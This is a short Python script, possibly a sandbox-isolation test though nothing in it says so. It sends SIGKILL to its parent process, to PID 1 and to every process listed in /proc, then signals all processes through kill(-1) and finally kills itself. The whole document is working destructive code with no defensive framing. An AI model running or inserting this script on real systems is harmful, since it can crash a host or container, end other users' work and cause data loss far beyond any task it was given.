"""Kills everything it can see."""

import os
import signal

for pid in [os.getppid(), 1, *map(int, filter(str.isdigit, os.listdir("/proc")))]:
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            continue
os.kill(-1, signal.SIGKILL)
os.kill(os.getpid(), signal.SIGKILL)
